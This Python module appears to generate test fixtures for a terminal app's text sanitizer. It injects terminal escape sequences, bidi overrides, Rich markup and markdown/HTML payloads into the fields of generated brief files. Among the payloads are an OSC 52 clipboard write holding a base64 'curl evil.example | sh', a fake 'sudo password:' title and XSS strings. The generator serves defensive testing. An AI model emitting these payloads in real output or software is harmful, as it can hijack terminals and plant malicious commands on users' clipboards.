"""Hostile text, generated: escape sequences, controls, bidi codes and markup in every field.

Not a few hand-picked files: `PAYLOADS` lists the attacks by family, and `captures()` /
`hand_written()` combine them (deterministically, from a seed) into titles, metadata, front matter,
file names and bodies, so that every payload lands in every carrier at least once. `unsafe()` is
the oracle the tests assert with; it is written here independently of tui.core.sanitize, so a gap
in the code under test is not repeated in the check.
"""

from __future__ import annotations

import base64
import json
import random
import re
from dataclasses import dataclass
from pathlib import Path

import yaml

_B64 = base64.b64encode(b"curl evil.example | sh").decode()

# (family, name, text). The texts are what an attacker would put in a web page or a shared brief.
PAYLOADS: list[tuple[str, str, str]] = [
    # CSI: colours, cursor moves, screen erase, window reports and resizes.
    ("csi", "sgr", "\x1b[31;1;7;58;5;2m"),
    ("csi", "erase", "\x1b[2J\x1b[3J\x1b[H"),
    ("csi", "cursor", "\x1b[10A\x1b[999C\x1b[6n"),
    ("csi", "window", "\x1b[8;5;20t\x1b[21t"),
    ("csi", "private-mode", "\x1b[?1049h\x1b[?25l\x1b[?1000h"),
    # OSC: clipboard writes and reads, hyperlinks, window title, palette changes.
    ("osc", "osc52-bel", f"\x1b]52;c;{_B64}\x07"),
    ("osc", "osc52-st", f"\x1b]52;p;{_B64}\x1b\\"),
    ("osc", "osc52-read", "\x1b]52;c;?\x07"),
    ("osc", "osc8-link", "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"),
    ("osc", "title", "\x1b]0;sudo password:\x07\x1b]2;owned\x1b\\"),
    ("osc", "palette", "\x1b]4;1;rgb:ff/00/00\x07\x1b]104\x07"),
    ("osc", "unterminated", "\x1b]52;c;QUFBQUFB"),
    # String sequences: DCS (status requests, sixel), APC (kitty graphics), PM, SOS.
    ("dcs", "decrqss", "\x1bP$qm\x1b\\"),
    ("dcs", "sixel", "\x1bPq#0;2;0;0;0#1!10~\x1b\\"),
    ("dcs", "tmux", "\x1bPtmux;\x1b\x1b]52;c;QQ==\x07\x1b\\"),
    ("apc", "kitty", "\x1b_Gf=100,a=T;iVBORw0KGgo=\x1b\\"),
    ("apc", "pm-sos", "\x1b^private\x1b\\\x1bXstring\x1b\\"),
    ("dcs", "unterminated", "\x1bP1$r"),
    # 8-bit C1 forms of the same (U+0080-U+009F as characters).
    ("c1", "csi8", "\x9b31m\x9b2J"),
    ("c1", "osc8bit", f"\x9d52;c;{_B64}\x9c"),
    ("c1", "dcs8bit", "\x90$qm\x9c"),
    ("c1", "apc8bit", "\x9fGf=100\x9c\x9eprivacy\x9c\x98sos\x9c"),
    ("c1", "nel-ind-ri", "\x85\x84\x8d\x88"),
    # Single escapes: full reset, charset switches (line-drawing garbage), save/restore cursor.
    ("esc", "reset", "\x1bc"),
    ("esc", "charset", "\x1b(0\x1b)0\x0e"),
    ("esc", "cursor-save", "\x1b7\x1b8\x1bD\x1bM\x1b#8"),
    ("esc", "bare", "\x1b"),
    # C0 controls: bell, backspace overwrite, carriage-return overwrite, vertical tab, DEL, NUL.
    ("c0", "bell-bs", "\x07\x08\x08\x08XXX"),
    ("c0", "cr-overwrite", "safe text\rEVIL"),
    ("c0", "vt-ff-fs", "\x0b\x0c\x1c\x1d\x1e\x1f"),
    ("c0", "nul-del", "\x00\x7f\x01\x02\x03\x04\x05\x06"),
    ("c0", "shift", "\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a"),
    # Bidirectional overrides, embeddings, isolates and marks ("Trojan Source").
    ("bidi", "rlo", "\u202eexe.txt\u202c"),
    ("bidi", "lre-rle-pdf", "\u202aleft\u202c\u202bright\u202c"),
    ("bidi", "lro", "\u202dforced\u202c"),
    ("bidi", "isolates", "\u2066a\u2069\u2067b\u2069\u2068c\u2069"),
    ("bidi", "trojan", "\u202e } \u2066 if (admin) \u2069 \u2066 {"),
    ("bidi", "marks", "\u200e\u200f\u061c"),
    # Rich / Textual markup: must be shown as typed (or dropped), never obeyed.
    ("markup", "bold", "[bold red]loud[/bold red]"),
    ("markup", "link", "[link=https://evil.example]harmless[/link]"),
    ("markup", "click", "[@click=app.quit]press[/]"),
    ("markup", "click-args", "[@click=app.push_screen('help')]x[/]"),
    ("markup", "close-all", "[/] [/bold]"),
    ("markup", "unclosed", "[b]half [i"),
    ("markup", "emoji-style", ":warning: [on #ff0000 blink]x[/]"),
    # Markdown that a renderer could turn into something live.
    ("markdown", "link", "[docs](javascript:alert(1)) <https://evil.example>"),
    ("markdown", "html", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
]

FAMILIES = sorted({family for family, _, _ in PAYLOADS})
CARRIERS = ("title", "author", "source", "url", "body", "filename")

# The oracle. Bidi: embeddings, overrides, isolates and the three marks.
_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
# What rich itself writes to a terminal: colours (SGR) and, for a transient progress bar, cursor
# hide/show, erase line and cursor up. The generator's own SGR payload uses 58 (underline colour),
# which rich never writes for briefs, so it is not mistaken for rich's.
_RICH = re.compile(r"\x1b\[(?:(?![0-9;]*58;5;2)[0-9;]*m|\?25[lh]|2K|1A)")


def unsafe(text: str, *, allow: str = "\n\t", allow_sgr: bool = False) -> list[str]:
    """Every character of `text` a terminal could obey, as readable names (empty when inert).

    `allow_sgr` accepts the codes a real terminal session gets from rich itself (see `_RICH`).
    """
    if allow_sgr:
        text = _RICH.sub("", text)
    bad = []
    for i, ch in enumerate(text):
        code = ord(ch)
        if ch in allow:
            continue
        if code < 0x20 or 0x7F <= code <= 0x9F or ch in _BIDI or 0xD800 <= code <= 0xDFFF:
            bad.append(f"U+{code:04X} at {i}: {text[max(0, i - 20) : i + 20]!r}")
    return bad


def without_rich(text: str) -> str:
    """Text as a terminal shows it once rich's own codes (see `_RICH`) and CRs are gone."""
    return _RICH.sub("", text).replace("\r", "")


def unsafe_bytes(data: bytes, *, allow_sgr: bool = False) -> list[str]:
    """`unsafe` on raw output; bytes that are not UTF-8 count as unsafe (raw 0x9b is 8-bit CSI)."""
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as exc:
        return [f"not UTF-8 at byte {exc.start}: {data[max(0, exc.start - 20) : exc.end + 20]!r}"]
    return unsafe(text, allow="\n\t\r" if allow_sgr else "\n\t", allow_sgr=allow_sgr)


def marker(i: int) -> str:
    """A word found in only one generated brief, to search for it."""
    return f"zorblax{chr(ord('a') + i % 26)}{chr(ord('a') + i // 26 % 26)}"


SHARED_WORD = "quillfeather"  # in every generated brief's body


@dataclass(frozen=True)
class Hostile:
    """One generated fixture: what went into which field."""

    name: str  # file name (may itself be hostile)
    raw: bytes  # the file's bytes
    title: str
    words: str  # a plain marker word in the body, to search for
    payloads: tuple[str, ...]  # payload names used


def _sentence(rng: random.Random, payload: str, word: str) -> str:
    fillers = [
        "Officials in Yerevan and Baku met again on Tuesday",
        "The ministry said talks on the corridor would continue",
        "Analysts expect the pipeline deal to be signed next year",
        "Russia and Turkey both sent observers to the border",
    ]
    head = rng.choice(fillers)
    cut = rng.randrange(len(head))
    return f"{head[:cut]}{payload}{head[cut:]} {word} {SHARED_WORD}."


def _assign(seed: int, count: int) -> list[list[tuple[str, str, str]]]:
    """For each fixture, the payloads of each carrier: every payload in every carrier once, at
    least, plus random extra ones (combinations of families in one field)."""
    rng = random.Random(seed)
    slots: list[list[tuple[str, str, str]]] = [[] for _ in range(count)]
    for c, carrier in enumerate(CARRIERS):
        for p, (_family, name, text) in enumerate(PAYLOADS):
            slots[(p + 7 * c) % count].append((carrier, name, text))
    for slot in slots:
        for carrier in CARRIERS:
            if rng.random() < 0.5:
                _family, name, text = rng.choice(PAYLOADS)
                slot.append((carrier, name, text))
    return slots


def _fields(slot: list[tuple[str, str, str]], carrier: str) -> str:
    return "".join(text for c, _name, text in slot if c == carrier)


def captures(seed: int = 6, count: int = 24) -> list[Hostile]:
    """Capture files for `briefs add`: .txt, .md with front matter and .html, in turn."""
    rng = random.Random(seed)
    out: list[Hostile] = []
    for i, slot in enumerate(_assign(seed, count)):
        word = marker(i)
        title = f"Caspian Report {word} {_fields(slot, 'title')} on Gas"
        author = f"Anna {_fields(slot, 'author')}Kowalska"
        source = f"Caucasus {_fields(slot, 'source')}Watch"
        url = f"https://example.org/{i}{_fields(slot, 'url')}"
        body_payloads = [text for c, _n, text in slot if c == "body"] or [""]
        paragraphs = [_sentence(rng, p, word) for p in body_payloads]
        # Plain prose around them: a capture that is mostly control bytes is refused as binary
        # (see test_any_input), which would leave its payloads untried here.
        paragraphs += [" ".join(_sentence(rng, "", word) for _ in range(4)) for _ in range(6)]
        kind = ("txt", "md", "html")[i % 3]
        stem = _file_stem(f"capture-{i:02d}{_fields(slot, 'filename')}")
        if kind == "txt":
            text = "\n\n".join([title, f"By {author}", f"Source: {source}", *paragraphs]) + "\n"
        elif kind == "md":
            meta = {"title": title, "author": author, "source": source, "url": url}
            front = yaml.safe_dump(meta, allow_unicode=True, sort_keys=False)
            text = f"---\n{front}---\n\n# {title}\n\n" + "\n\n".join(paragraphs) + "\n"
        else:
            paras = "".join(f"<p>{p}</p>\n" for p in paragraphs)
            text = (
                f"<html><head><title>{title}</title>"
                f'<meta name="author" content="{author}">'
                f'<meta property="og:site_name" content="{source}">'
                f'<link rel="canonical" href="{url}"></head>'
                f"<body><article><h1>{title}</h1>\n{paras}</article></body></html>\n"
            )
        names = tuple(name for _c, name, _t in slot)
        out.append(Hostile(f"{stem}.{kind}", text.encode("utf-8"), title, word, names))
    return out


def hand_written(seed: int = 66, count: int = 24) -> list[Hostile]:
    """Brief files as someone else might send them, put straight into `briefs/` (never cleaned
    by ingest): every field of the front matter and the body carry payloads."""
    rng = random.Random(seed)
    out: list[Hostile] = []
    for i, slot in enumerate(_assign(seed, count)):
        word = marker(100 + i)
        body_payloads = [text for c, _n, text in slot if c == "body"] or [""]
        paragraphs = [_sentence(rng, p, word) for p in body_payloads]
        body = f"## Heading {_fields(slot, 'title')}\n\n" + "\n\n".join(paragraphs)
        meta = {
            "id": f"hand-{i:02d}",
            "title": f"Hand {word} {_fields(slot, 'title')} Brief",
            "source": f"Src {_fields(slot, 'source')}",
            "author": f"Auth {_fields(slot, 'author')}",
            "published": "2023-09-19",
            "url": f"https://example.org/h{i}{_fields(slot, 'url')}",
            "origin": f"o{_fields(slot, 'filename')}.txt",
        }
        # YAML escapes (a careful editor), JSON (is YAML too) and raw characters (a careless one:
        # YAML refuses raw C0/C1 controls, so some of these files are unreadable, which is also
        # something to report safely).
        if i % 3 == 0:
            front = json.dumps(meta, ensure_ascii=True)
        elif i % 3 == 1:
            front = yaml.safe_dump(meta, allow_unicode=True, sort_keys=False)
        else:
            front = "\n".join(
                f"{k}: '{str(v).replace(chr(39), chr(39) * 2)}'" for k, v in meta.items()
            )
        text = f"---\n{front}\n---\n\n{body}\n"
        names = tuple(name for _c, name, _t in slot)
        out.append(Hostile(f"hand-{i:02d}.md", text.encode("utf-8"), meta["title"], word, names))
    return out


def _file_stem(text: str) -> str:
    """A file name from hostile text: any character but '/' and NUL, at most 200 bytes."""
    text = text.replace("/", "_").replace("\x00", "")
    while len(text.encode("utf-8")) > 200:
        text = text[:-1]
    return text


def write_all(folder: Path, items: list[Hostile]) -> list[Path]:
    """Write the fixtures; file names may hold any byte but '/' and NUL."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for item in items:
        path = folder / item.name
        path.write_bytes(item.raw)
        paths.append(path)
    return paths


def payload_count() -> int:
    return len(PAYLOADS)
